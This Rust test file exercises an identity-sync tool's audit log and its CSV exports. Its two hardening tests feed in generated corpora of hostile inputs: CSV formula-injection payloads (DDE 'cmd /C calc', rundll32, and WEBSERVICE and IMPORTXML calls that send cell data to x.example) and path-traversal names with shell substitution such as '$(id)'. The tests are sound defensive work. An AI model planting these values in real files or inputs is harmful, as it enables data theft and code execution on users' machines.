//! The audit log through the real binary: listed, exported, proved; and where files go whose names others choose.

#![expect(clippy::unwrap_used, reason = "a bench that cannot be built is a failed test")]

#[path = "support/mod.rs"]
mod support;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use entrain_emulator::Options;
use entrain_emulator::control::WorldChange;
use entrain_emulator::world::generate::{GenerateOptions, generate};
use serde_json::{Value, json};
use support::{Bench, entrain_in};

fn change(bench: &Bench, change: Value) {
    let change: WorldChange = serde_json::from_value(change).unwrap();
    bench.emulator.state().change(change).unwrap();
}

fn synced(bench: &Bench) {
    let ran = bench.entrain(&["sync", "--yes", "--json"]);
    assert!(matches!(ran.output.status.code(), Some(0 | 4)), "{}", ran.out());
}

#[test]
fn the_log_is_listed_by_moment_and_object_and_exported_whole() {
    let bench = Bench::demo();
    bench.add("\"*\"");
    synced(&bench);
    let all: Vec<Value> = bench
        .entrain(&["audit", "export"])
        .expect(0)
        .out()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert!(all.len() > 10);
    assert!(all.iter().enumerate().all(|(at, entry)| entry["seq"] == at + 1), "no gaps, in order");
    let csv = bench.entrain(&["audit", "export", "--format", "csv"]).expect(0).out();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["seq", "at", "actor", "action", "object", "detail", "hash"]
    );
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), all.len());
    for (record, entry) in records.iter().zip(&all) {
        assert_eq!(&record[0], entry["seq"].to_string());
        assert_eq!(&record[6], entry["hash"].as_str().unwrap());
    }

    let object = all.last().unwrap()["object"].as_str().unwrap().to_owned();
    let listed = bench.entrain(&["audit", "list", "--object", &object, "--json"]).expect(0).json();
    let listed = listed.as_array().unwrap();
    assert!(!listed.is_empty() && listed.iter().all(|e| e["object"].as_str().unwrap().contains(&object)));
    let future = bench.entrain(&["audit", "list", "--since", "2999-01-01", "--json"]).expect(0).json();
    assert_eq!(future, json!([]));
    let two = bench.entrain(&["audit", "list", "--limit", "2", "--json"]).expect(0).json();
    assert_eq!(two.as_array().unwrap().len(), 2);
    bench.entrain(&["audit", "list", "--since", "yesterday"]).expect(2);
    assert_eq!(bench.entrain(&["audit", "verify", "--json"]).expect(0).json()["entries"], all.len());

    let out = bench.folder.path().join("log.jsonl");
    let args = ["audit", "export", "--out", out.to_str().unwrap()];
    bench.entrain(&args).expect(0);
    assert_eq!(std::fs::read_to_string(&out).unwrap().lines().count(), all.len());
    let again = bench.entrain(&args).expect(2);
    assert!(again.err().contains("log.jsonl"), "an export never replaces a file: {}", again.err());
}

/// Names that a spreadsheet would compute, each of its own.
fn formulas() -> Vec<String> {
    let starts = [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        " =",
        "\t @",
        "＝",
        "＋",
        "－",
        "＠",
        "\u{200B}=",
        "\u{FEFF}=",
        "\u{A0}=",
        "\u{3000}+",
        "\u{202E}=",
        "==",
        "-+",
    ];
    let bodies = [
        "1+1",
        "1",
        "A1",
        "-1",
        "1e9",
        "0x1F",
        "TRUE",
        "PI()",
        "NOW()",
        "SUM(A1:A9)",
        "SUM(1,2)",
        "1;2",
        "A1&B1",
        "HYPERLINK(\"http://x.example\",\"y\")",
        "HYPERLINK(\"http://x.example/?\"&A1;\"y\")",
        "cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\x.exe'!A1",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "WEBSERVICE(\"http://x.example/\"&A2)",
        "IMPORTXML(CONCAT(\"http://x.example/\",A2),\"//a\")",
        "IMAGE(\"http://x.example/i\")",
        "2,3;4\"5",
        "\"quoted\"",
        "a,b;c\td",
        "rundll32|'URL.dll,OpenURL http://x.example'!A",
    ];
    let all = starts.iter().flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")));
    all.collect()
}

/// H-04: names that a spreadsheet would compute. 500 of them, of people and of groups, in every export that there is.
#[test]
fn h_04_no_export_has_a_cell_that_a_spreadsheet_computes() {
    let corpus = formulas();
    assert!(corpus.len() >= 500, "only {}", corpus.len());
    let mut world = generate(&GenerateOptions {
        people: corpus.len(),
        groups: 60,
        members_per_group: 20,
        clashes: false,
        ..GenerateOptions::default()
    });
    for (user, name) in world.tenant.users.values_mut().zip(&corpus) {
        user.display_name = Some(name.clone());
        user.account_enabled = Some(true);
    }
    for (group, name) in world.tenant.groups.values_mut().zip(corpus.iter().rev()) {
        group.display_name = Some(name.clone());
    }
    let mut options = Options::with_world(world);
    options.settings.atlassian.throttle = false;
    options.settings.graph.throttle = false;
    let bench = Bench::of(options);
    let document = bench.document("\"*\"").replace("[scope]\ngroups", "[scope]\nusers = \"all\"\ngroups");
    let path = bench.file("connection.toml", &document);
    bench.entrain(&["connection", "add", path.to_str().unwrap()]).expect(0);
    synced(&bench);
    let users: Vec<String> = bench.emulator.state().world().tenant.users.keys().cloned().collect();
    for user in users.iter().step_by(25) {
        change(&bench, json!({"change": "disable_user", "user": user}));
    }
    let exports = [
        &["audit", "export", "--format", "csv"][..],
        &["report", "leavers", "--format", "csv"],
        &["report", "unlinked", "--format", "csv"],
        &["report", "drift", "--format", "csv"],
        &["report", "seats", "--format", "csv"],
        &["report", "ladder", "--format", "csv"],
        &["report", "credentials", "--format", "csv"],
    ];
    let mut escaped = BTreeSet::new();
    let mut cells = 0;
    for args in exports {
        let text = bench.entrain(args).expect(0).out();
        assert!(!text.chars().any(|c| c.is_control() && c != '\r' && c != '\n'), "{args:?}: {text:?}");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let width = reader.headers().unwrap().len();
        for record in reader.records() {
            let record = record.unwrap();
            assert_eq!(record.len(), width, "{args:?}: {record:?}");
            for cell in &record {
                cells += 1;
                if cell.starts_with('\'') {
                    escaped.insert(cell.to_owned());
                }
                let hidden = |c: char| {
                    c.is_whitespace() || matches!(c, '\u{FFFD}' | '\u{200B}' | '\u{FEFF}' | '\u{202E}')
                };
                let seen = cell.trim_start_matches(hidden);
                let number = seen.parse::<f64>().is_ok();
                assert!(
                    number || !seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                    "{args:?}: {cell:?}"
                );
            }
        }
    }
    println!("{cells} cells, {} escaped", escaped.len());
    assert!(escaped.len() >= 500, "only {} different cells of the corpus reached the exports", escaped.len());
}

/// Every file below a folder.
fn tree(folder: &Path) -> BTreeSet<PathBuf> {
    let mut found = BTreeSet::new();
    let mut left = vec![folder.to_owned()];
    while let Some(folder) = left.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                left.push(path.clone());
            }
            found.insert(path);
        }
    }
    found
}

/// Names that lead elsewhere when somebody takes them for a path.
fn paths() -> Vec<String> {
    let ups = [
        "../",
        "../../",
        "../../../../../",
        "..\\",
        "..\\..\\",
        "%2e%2e%2f",
        "%2e%2e/",
        "....//",
        "..;/",
        "./../",
    ];
    let roots = [
        "/tmp/",
        "/",
        "//",
        "C:\\",
        "C:",
        "\\\\host\\share\\",
        "\\\\?\\C:\\",
        "file:///tmp/",
        "~/",
        "~root/",
        "$HOME/",
        "%TEMP%\\",
    ];
    let names = ["h05", "h05.toml", "data/h05", "h05/", "h05/..", "h05;id", "h05 ", "h05."];
    let devices = [
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "COM1",
        "LPT1",
        "NUL.txt",
        "con.toml",
        "h05.",
        "..",
        ".",
        "...",
        ".hidden-h05",
        "-h05",
        "--out=/tmp/h05",
        "`id`-h05",
        "$(id)-h05",
        "h05|id",
        "h05>x",
        "h05*",
        "h05?",
        "h05:stream",
        "a/b/c",
        "data",
        "entrain.db",
    ];
    let made =
        ups.iter().chain(&roots).flat_map(|lead| names.iter().map(move |name| format!("{lead}{name}")));
    made.chain(devices.iter().map(|name| (*name).to_owned())).collect()
}

/// What a test of paths may have left behind elsewhere.
fn astray(folder: &Path) -> BTreeSet<PathBuf> {
    let entries = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.filter(|path| path.to_string_lossy().contains("h05")).collect()
}

/// H-05: names of connections, groups and people never become paths, in nothing that is exported or backed up.
#[test]
fn h_05_no_name_takes_a_file_out_of_its_folder() {
    let bench = Bench::demo();
    let names = paths();
    assert!(names.len() >= 200, "only {}", names.len());
    let groups: Vec<String> = bench.emulator.state().world().tenant.groups.keys().cloned().collect();
    for (group, name) in groups.iter().zip(names.iter().step_by(7)) {
        change(&bench, json!({"change": "rename_group", "group": group, "name": name}));
    }
    let root = bench.folder.path().to_owned();
    let outside = [root.parent().unwrap().to_owned(), PathBuf::from("/tmp"), PathBuf::from("/")];
    for folder in &outside {
        assert_eq!(astray(folder), BTreeSet::new());
    }
    let assert_inside = |before: &BTreeSet<PathBuf>, allowed: &[PathBuf], what: &str| {
        let written: Vec<PathBuf> = tree(&root).difference(before).cloned().collect();
        for path in &written {
            assert!(allowed.contains(path) || path.starts_with(root.join("data")), "{what}: {path:?}");
        }
        for folder in &outside {
            assert_eq!(astray(folder), BTreeSet::new(), "{what}");
        }
    };
    let document = |name: &str| {
        let text = serde_json::to_string(name).unwrap();
        bench.document("\"*\"").replace("name = \"Azure AD\"", &format!("name = {text}"))
    };
    let mut stored = Vec::new();
    for (at, name) in names.iter().enumerate() {
        let path = bench.file("connection.toml", &document(name));
        let file = path.to_str().unwrap();
        let before = tree(&root);
        let plan = root.join("plan.json");
        if bench.entrain(&["connection", "add", file]).output.status.success() {
            stored.push(name);
        }
        // What takes longer, of some of each sort
        if at % 9 == 0 {
            bench.entrain(&["plan", "--connection-file", file, "--out", plan.to_str().unwrap(), "--json"]);
            bench.entrain(&["report", "unlinked", "--connection-file", file, "--format", "csv"]);
            bench.entrain(&["connection", "export", "--", name]);
        }
        assert_inside(&before, std::slice::from_ref(&plan), name);
        let _ = std::fs::remove_file(&plan);
    }
    // Most differ from another one in nothing that an address of the service would show
    assert!(stored.len() >= 50, "only {} of the names were taken", stored.len());
    // A backup with all of them, and back into another folder
    let before = tree(&root);
    let backup = root.join("all.backup");
    bench.entrain(&["admin", "backup", backup.to_str().unwrap()]).expect(0);
    assert_inside(&before, std::slice::from_ref(&backup), "backup");
    let elsewhere = root.join("elsewhere");
    std::fs::create_dir_all(elsewhere.join("data")).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(elsewhere.join("data"), std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    std::fs::copy(root.join("data/secret.key"), elsewhere.join("data/secret.key")).unwrap();
    let before = tree(&root);
    let restored = entrain_in(&elsewhere, &["admin", "restore", backup.to_str().unwrap()], &[]).expect(0);
    let allowed: Vec<PathBuf> =
        tree(&elsewhere).into_iter().filter(|p| p.starts_with(elsewhere.join("data"))).collect();
    assert_inside(&before, &allowed, "restore");
    assert!(restored.output.status.success());
    let listed = entrain_in(&elsewhere, &["connection", "list", "--json"], &[]).expect(0).json();
    let listed: BTreeSet<&str> =
        listed.as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(
        listed,
        stored.iter().map(|name| name.as_str()).collect(),
        "as they are called, and nothing else"
    );
    // An export goes to the file that the operator names, and stays away from what is there already
    let target = root.join("there.jsonl");
    std::fs::write(&target, "mine").unwrap();
    bench.entrain(&["audit", "export", "--out", target.to_str().unwrap()]).expect(2);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "mine");
    #[cfg(unix)]
    {
        let link = root.join("link.jsonl");
        std::os::unix::fs::symlink(root.join("elsewhere.jsonl"), &link).unwrap();
        bench.entrain(&["audit", "export", "--out", link.to_str().unwrap()]).expect(2);
        assert!(!root.join("elsewhere.jsonl").exists(), "no link is followed");
    }
}
